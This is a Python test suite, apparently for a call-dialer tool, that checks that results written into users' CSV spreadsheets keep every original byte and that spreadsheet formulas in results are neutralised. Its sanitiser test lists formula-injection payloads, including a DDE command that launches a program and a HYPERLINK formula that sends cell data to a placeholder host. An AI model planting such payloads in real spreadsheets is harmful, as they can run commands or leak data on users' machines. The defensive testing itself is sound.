"""A text comes back with its results, and with every byte of the user's."""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dialer.delimited import find_form, read_records
from dialer.delimited_report import add_to_text
from dialer.result_table import ResultCell, ResultPlacement, ResultTable, harmless

SHEETS = Path(__file__).parent / "spreadsheets"
Results = Mapping[int, tuple[ResultCell, ...]]


def add(
    content: bytes,
    results: Results,
    *,
    names: Sequence[str] = ("call_id", "status"),
    header_row: int | None = 1,
    existing: Mapping[str, int] | None = None,
    encoding: str | None = None,
    delimiter: str | None = None,
) -> tuple[bytes, ResultPlacement]:
    file, out = io.BytesIO(content), io.BytesIO()
    form = find_form(file, encoding=encoding, delimiter=delimiter)
    table = ResultTable(tuple(names), sorted(results.items()), existing or {})
    placement = add_to_text(file, out, form=form, name="leads.csv", header_row=header_row, results=table)
    return out.getvalue(), placement


def added(content: bytes, results: Results, **options: object) -> bytes:
    return add(content, results, **options)[0]  # type: ignore[arg-type]


def cell(text: ResultCell) -> bytes:
    """How one result stands in a comma-separated UTF-8 text."""
    return added(b"Ann", {1: (text,)}, names=["r"], header_row=None).removeprefix(b"Ann,")


def test_results_stand_behind_the_widest_row_and_all_else_is_as_it_was() -> None:
    content = b'\xef\xbb\xbf"Name" ,Phone\r\nAnn,\'1\r\n\r\n"B\r\no",2,extra,\rTotal\n'
    assert added(content, {2: ("c1", "queued"), 4: ("c2", "failed")}) == (
        b'\xef\xbb\xbf"Name" ,Phone,,,call_id,status\r\nAnn,\'1,,,c1,queued\r\n\r\n'
        b'"B\r\no",2,extra,,c2,failed\rTotal\n'
    )


def test_a_last_line_without_an_end_gets_none() -> None:
    assert added(b"Name\nAnn", {2: ("c1", None)}) == b"Name,call_id,status\nAnn,c1,"


def test_the_separator_line_stays_and_the_header_is_the_row_after_it() -> None:
    assert added((SHEETS / "separator_line_and_mark.csv").read_bytes(), {2: ("c1", "queued")}) == (
        b"\xef\xbb\xbfsep=|\r\nName|Phone|call_id|status\r\nAnn|+12015550123|c1|queued\r\n"
    )


def test_utf_16_stays_utf_16() -> None:
    content = (SHEETS / "tabs_utf16.csv").read_bytes()
    assert added(content, {2: ("c1", "queued")}).decode("utf-16") == (
        "Name\tPhone\tcall_id\tstatus\r\nZoë Example\t+12015550123\tc1\tqueued\r\n"
    )


def test_damaged_characters_nul_and_ragged_rows_keep_their_bytes() -> None:
    content = "José Ñandú, Zoë Ärmel, Ö Ü\n".encode() + b"B\xe9\0\n"
    assert added(content, {2: ("c1", None)}, header_row=None) == content[:-1] + b",,,c1,\n"


def test_without_a_header_no_header_is_written() -> None:
    assert added(b"Ann\nBo\n", {1: ("c1", "queued")}, header_row=None) == b"Ann,c1,queued\nBo\n"


def test_a_blank_row_that_gets_results_is_padded_like_any_other() -> None:
    assert added(b"a,b\n\n", {2: ("c1", "x")}) == b"a,b,call_id,status\n,,c1,x\n"


def test_booleans_numbers_and_nothing() -> None:
    assert [cell(value) for value in (True, False, 3, None, "")] == [b"true", b"false", b"3", b"", b""]


def test_a_cell_is_quoted_only_where_it_must_be() -> None:
    assert [cell(text) for text in ("a b", "a,b", 'a"b', "a\nb", "a;b")] == [
        *(b"a b", b'"a,b"', b'"a""b"', b'"a\nb"', b"a;b")
    ]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("-2+3", "'-2+3"),
        ("+1-201-555-0123", "'+1-201-555-0123"),
        ("\t=1", "'\t=1"),
        ("\r=1", '"\'\r=1"'),
        ("\n=1", '"\'\n=1"'),
        ("\0=1", "'\0=1"),
        ("=cmd|'/c calc'!A0", "'=cmd|'/c calc'!A0"),
        ('=HYPERLINK("http://x/?"&A1)', '"\'=HYPERLINK(""http://x/?""&A1)"'),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff20x", "'\uff20x"),
        ("+12015550123", "+12015550123"),
        ("+12015550123\n", '"\'+12015550123\n"'),
        ("+1201555012345678", "'+1201555012345678"),
        (
            "+\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",
            "'+\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",
        ),
    ],
)
def test_what_a_spreadsheet_would_run_is_made_harmless(text: str, written: str) -> None:
    assert added(b"Name\nAnn", {2: (text,)}, names=["r"]) == b"Name,r\nAnn," + written.encode()


def test_a_header_that_a_spreadsheet_would_run_is_made_harmless() -> None:
    assert added(b"Name\nAnn\n", {}, names=["=1+1"]) == b"Name,'=1+1\nAnn\n"


def test_the_users_own_cells_are_never_made_harmless() -> None:
    assert added(b"Name\n=1+1\n", {2: ("a", "b")}) == b"Name,call_id,status\n=1+1,a,b\n"


def test_characters_that_the_encoding_lacks_become_their_nearest() -> None:
    content = "Name;Ort\nJosé;Köln\n".encode("cp1252")
    assert added(content, {2: ("Łó → ĉ", None)}) == "Name;Ort;call_id;status\nJosé;Köln;?ó ? c;\n".encode(
        "cp1252"
    )


def test_a_report_fed_back_is_updated_where_its_columns_stand() -> None:
    content = b'call_id,Name,"status"\r\n"old, one","A""nn",pending\r\n,Bo\r\n,"x"y,\r\n'
    existing = {"call_id": 0, "status": 2}
    assert added(content, {2: ("new", "queued"), 3: (None, "failed")}, existing=existing) == (
        b'call_id,Name,"status"\r\nnew,"A""nn",queued\r\n,Bo,failed\r\n,"x"y,\r\n'
    )


def test_what_stands_behind_the_result_columns_stays_there() -> None:
    content = b"Name,call_id,status,Owner\nAnn,old,pending,Bo\nCy,,,\n"
    existing = {"call_id": 1, "status": 2}
    assert added(content, {2: ("new", "queued"), 3: (None, "failed")}, existing=existing) == (
        b"Name,call_id,status,Owner\nAnn,new,queued,Bo\nCy,,failed,\n"
    )


def test_a_row_that_was_cut_short_gets_its_results_in_their_columns() -> None:
    content = b'Name,call_id,status\nAnn\n"B,o",old\n'
    existing = {"call_id": 1, "status": 2}
    assert added(content, {2: ("new", "queued"), 3: ("x", "failed")}, existing=existing) == (
        b'Name,call_id,status\nAnn,new,queued\n"B,o",x,failed\n'
    )


def test_result_columns_that_are_missing_are_added_to_those_that_stand() -> None:
    assert add(b"status,Name\nold,Ann\n", {2: ("c1", "queued")}, existing={"status": 0})[0] == (
        b"status,Name,call_id\nqueued,Ann,c1\n"
    )


def test_the_placement_tells_where_the_columns_stand() -> None:
    placement = add(b"status,Name\nold,Ann\n", {2: ("c1", "queued")}, existing={"status": 0})[1]
    assert (placement.columns, placement.rows) == ({"call_id": 2, "status": 0}, 1)


@pytest.mark.parametrize("row", [0, 3])
def test_results_of_a_row_that_does_not_exist_are_a_fault(row: int) -> None:
    with pytest.raises(ValueError, match=f"results for row {row}"):
        added(b"Name\nAnn\n", {row: ("c1", "queued")})


def test_results_out_of_order_are_a_fault() -> None:
    table = ResultTable(("r",), [(2, ("a",)), (1, ("b",))])
    with pytest.raises(ValueError, match="results for row 1 after row 2"):
        list(map(ResultPlacement(table, width=1).take, (1, 2, 3)))


ALPHABETS = {
    "utf-8": 'aé="\n\r,;|\t\0\u2028ポ',
    "utf-8-sig": 'aé"\n,;|\t',
    "utf-16": 'aé"\n\r,;|\t\u0a0dੂ☌',
    "utf-16-be": 'aé"\n\r,;|\t\u2200\u2c00',
    "cp1252": 'aé"\n\r,;|\t€',
    "cp932": 'aソ表ポ能"\n,;|\t',
    "gb18030": 'a陏亅€"\n,;|\t',
}


@st.composite
def texts(draw: st.DrawFn) -> tuple[bytes, str, str, int, Results]:
    """A text's bytes, its encoding, its delimiter, how many rows it has, and results for some of them."""
    encoding = draw(st.sampled_from(sorted(ALPHABETS)))
    delimiter = draw(st.sampled_from(",;|\t"))
    cells = st.text(ALPHABETS[encoding], max_size=4)
    line = io.StringIO(newline="")
    row_count = draw(st.integers(1, 5))
    for _ in range(row_count):
        quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
        end = draw(st.sampled_from(["\n", "\r\n", "\r"])) if quoting == csv.QUOTE_ALL else "\r\n"
        row = draw(st.lists(cells, min_size=2, max_size=4))
        csv.writer(line, delimiter=delimiter, lineterminator=end, quoting=quoting).writerow(row)
    text = line.getvalue()
    if draw(st.booleans()):
        text = text.removesuffix("\n").removesuffix("\r")
    result = st.one_of(st.none(), st.booleans(), st.integers(0, 99), st.text('aé=+"\n,;', max_size=4))
    results = draw(st.dictionaries(st.integers(2, row_count + 1), st.tuples(result, result)))
    return (
        text.encode(encoding),
        encoding,
        delimiter,
        row_count,
        {n: r for n, r in results.items() if n <= row_count},
    )


def read(content: bytes, encoding: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(encoding), newline=""), delimiter=delimiter))


def as_text(value: ResultCell) -> str:
    if isinstance(value, bool):
        return str(value).lower()
    return harmless(value) if isinstance(value, str) else "" if value is None else str(value)


@settings(deadline=None, max_examples=300)
@given(texts())
def test_what_is_read_back_is_the_table_and_its_results(
    sample: tuple[bytes, str, str, int, Results],
) -> None:
    content, encoding, delimiter, _, results = sample
    before = read(content, encoding, delimiter)
    width = max(map(len, before))
    expected = [
        row + [""] * (width - len(row)) + [as_text(value) for value in results.get(number, ())]
        if number in results
        else row
        for number, row in enumerate(before, 1)
    ]
    expected[0] = before[0] + [""] * (width - len(before[0])) + ["call_id", "status"]
    out = added(content, results, encoding=encoding, delimiter=delimiter)
    reread = read(out, encoding, delimiter)
    assert [[as_encoded(cell, encoding) for cell in row] for row in expected] == reread


def as_encoded(text: str, encoding: str) -> str:
    """The generated results hold at most one letter that an encoding may lack."""
    return text if encoding != "cp932" else text.replace("é", "e")


@settings(deadline=None, max_examples=300)
@given(texts())
def test_taking_the_results_out_again_gives_back_every_byte(
    sample: tuple[bytes, str, str, int, Results],
) -> None:
    content, encoding, delimiter, _, results = sample
    first, placement = add(content, results, encoding=encoding, delimiter=delimiter)
    other = dict.fromkeys(results, ("x" * 9, '"'))
    options = {"existing": placement.columns, "encoding": encoding, "delimiter": delimiter}
    changed = added(first, other, **options)
    assert added(changed, results, **options) == first


@settings(deadline=None, max_examples=200)
@given(texts())
def test_every_row_begins_with_the_bytes_it_had(sample: tuple[bytes, str, str, int, Results]) -> None:
    content, encoding, delimiter, _, results = sample
    form = find_form(io.BytesIO(content), encoding=encoding, delimiter=delimiter)
    out = added(content, results, encoding=encoding, delimiter=delimiter)
    ends = tuple(end.encode(form.encoding.codec) for end in ("\r\n", "\n", "\r", ""))
    pairs = zip(
        read_records(io.BytesIO(content), form, name=""),
        read_records(io.BytesIO(out), form, name=""),
        strict=True,
    )
    for before, after in pairs:
        end = next(end for end in ends if before.raw.endswith(end))
        assert after.raw.startswith(before.raw[: len(before.raw) - len(end)])
        assert after.raw.endswith(end)


@settings(deadline=None, max_examples=200)
@given(texts())
def test_without_results_every_byte_is_as_it_was(sample: tuple[bytes, str, str, int, Results]) -> None:
    content, encoding, delimiter, _, _ = sample
    assert added(content, {}, header_row=None, encoding=encoding, delimiter=delimiter) == content
